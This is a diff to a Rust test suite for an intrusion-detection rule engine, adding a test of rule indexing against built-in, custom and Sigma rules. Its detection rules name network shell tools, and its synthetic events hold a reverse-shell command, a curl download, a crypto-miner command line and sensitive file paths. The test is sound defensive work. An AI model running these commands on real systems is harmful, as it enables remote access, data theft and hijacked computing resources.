@@ -519,7 +519,7 @@ fn state_is_bounded_and_evictions_counted() {
 }
 
 #[test]
-fn indexed_by_data_type() {
+fn indexed_by_data_type_and_field() {
     let mut rules = String::from("rules:\n");
     for i in 0..50 {
         rules.push_str(&format!(
@@ -527,11 +527,162 @@ fn indexed_by_data_type() {
         ));
     }
     rules.push_str("- id: e\n  name: E\n  severity: low\n  condition:\n    all: [{field: data_type, in: ['59', '602']}, {field: exe, equals: /x}]\n");
+    // No guard to index it by: run on every 42.
+    rules.push_str("- id: n\n  name: N\n  severity: low\n  condition:\n    all: [{field: data_type, equals: '42'}, {field: dport, gt: 60000}]\n");
     let mut e = engine(&[&rules], no_suppress());
+    let evals = |e: &Engine| e.counters().rule_evaluations.load(Ordering::Relaxed);
+    // The field index: exe is not /x, so rule e is not even run.
     run(&mut e, &[ev(&[("data_type", "59"), ("exe", "/y")])]);
-    assert_eq!(e.counters().rule_evaluations.load(Ordering::Relaxed), 1);
-    run(&mut e, &[ev(&[("data_type", "42"), ("dport", "3")])]);
-    assert_eq!(e.counters().rule_evaluations.load(Ordering::Relaxed), 51);
+    assert_eq!(evals(&e), 0);
+    assert_eq!(
+        run(&mut e, &[ev(&[("data_type", "602"), ("exe", "/x")])]).len(),
+        1
+    );
+    assert_eq!(evals(&e), 1);
+    // One of the fifty dport rules, and the unguarded one.
+    assert_eq!(
+        run(&mut e, &[ev(&[("data_type", "42"), ("dport", "3")])]).len(),
+        1
+    );
+    assert_eq!(evals(&e), 3);
+    // An event without the guarded field runs only the unguarded rule.
+    assert!(run(&mut e, &[ev(&[("data_type", "42")])]).is_empty());
+    assert_eq!(evals(&e), 4);
+}
+
+/// The field index may only skip rules that cannot match: every rule of
+/// the built-in set and of a Sigma set whose condition matches an event
+/// must be among those the index runs on it.
+#[test]
+fn the_field_index_skips_only_rules_that_cannot_match() {
+    let mut sources = builtin_sources();
+    sources.push(src("agent", "lists:\n  kestrel_agent_pids: ['1']\n"));
+    sources.push(src(
+        "ops.yaml",
+        "rules:
+- {id: o1, name: O, severity: low, condition: {all: [{field: data_type, equals: '59'}, {field: exe, suffix: [/nc, /curl]}]}}
+- {id: o2, name: O, severity: low, condition: {all: [{field: data_type, equals: '602'}, {field: file_path, prefix: /etc/}]}}
+- {id: o3, name: O, severity: low, condition: {any: [{field: argv, contains: stratum}, {field: argv, equals: ls}]}}
+- {id: o4, name: O, severity: low, condition: {all: [{field: data_type, in: ['42', '43']}, {field: dport, equals: '4444'}, {field: exe, prefix: /usr/}]}}
+",
+    ));
+    sources.push(RuleSource {
+        origin: Origin::Sigma,
+        name: "s.yml".into(),
+        text: "
+title: Tools
+id: s-1
+logsource: {product: linux, category: process_creation}
+detection:
+  sel: {Image|endswith: [/nc, /ncat, /socat]}
+  cmd: {CommandLine|contains|all: [' -e ', /bin/]}
+  condition: sel or cmd
+level: high
+---
+title: Parent
+id: s-2
+logsource: {product: linux, category: process_creation}
+detection:
+  sel: {ParentImage|endswith: /nginx, Image|endswith: [/sh, /bash]}
+  condition: sel
+level: high
+---
+title: Drop
+id: s-3
+logsource: {product: linux, category: file_event}
+detection:
+  sel: {TargetFilename|startswith: /etc/cron.d/}
+  condition: sel
+level: medium
+---
+title: Port
+id: s-4
+logsource: {product: linux, category: network_connection}
+detection:
+  sel: {DestinationPort: [4444, 1337]}
+  condition: sel
+level: medium
+"
+        .into(),
+    });
+    let set = compile(&sources).unwrap();
+    let rules: Vec<Rule> = set.rules.clone();
+    let e = Engine::new(set, no_suppress(), Arc::default());
+    let exes = [
+        "/usr/bin/nc",
+        "/bin/bash",
+        "/usr/sbin/nginx",
+        "/tmp/x",
+        "/dev/shm/y",
+        "/usr/bin/NC",
+        "/usr/bin/curl",
+        "/usr/bin/xmrig",
+    ];
+    let argvs = [
+        "nc -e /bin/sh 10.0.0.1 4444",
+        "bash -i",
+        "ls",
+        "curl -o /tmp/a http://x",
+        "xmrig -o stratum+tcp://pool:3333 --donate-level 1",
+        "",
+    ];
+    let files = [
+        "/etc/cron.d/job",
+        "/etc/shadow",
+        "/root/.ssh/authorized_keys",
+        "/var/log/auth.log",
+        "/home/u/.bash_history",
+        "/etc/ld.so.preload",
+        "/tmp/z",
+    ];
+    let mut events = Vec::new();
+    for dt in [
+        "59", "42", "43", "602", "608", "609", "605", "82", "86", "601", "101",
+    ] {
+        for (k, exe) in exes.iter().enumerate() {
+            for argv in argvs {
+                let file = files[k % files.len()];
+                let port = ["4444", "1337", "3333", "443"][k % 4];
+                events.push(ev(&[
+                    ("data_type", dt),
+                    ("exe", exe),
+                    ("argv", argv),
+                    ("parent_exe", exes[(k + 2) % exes.len()]),
+                    ("file", file),
+                    ("file_path", file),
+                    ("old_name", file),
+                    ("new_name", "/dev/null"),
+                    ("dport", port),
+                    ("res", "0"),
+                    ("query", "pool.minexmr.com"),
+                    ("truncates", "true"),
+                    ("uid", "0"),
+                    ("tgid", "7"),
+                ]));
+            }
+        }
+    }
+    let mut checked = 0;
+    for x in &events {
+        let run = e.candidates(x);
+        for (i, r) in rules.iter().enumerate() {
+            let crate::load::Kind::Single(c) = &r.kind else {
+                continue;
+            };
+            if c.matches(x) {
+                checked += 1;
+                assert!(
+                    run.contains(&i),
+                    "rule {} matches but was skipped: {x:?}",
+                    r.id
+                );
+            }
+        }
+    }
+    assert!(
+        checked > 100,
+        "the events must make rules match ({checked})"
+    );
 }
 
 #[test]
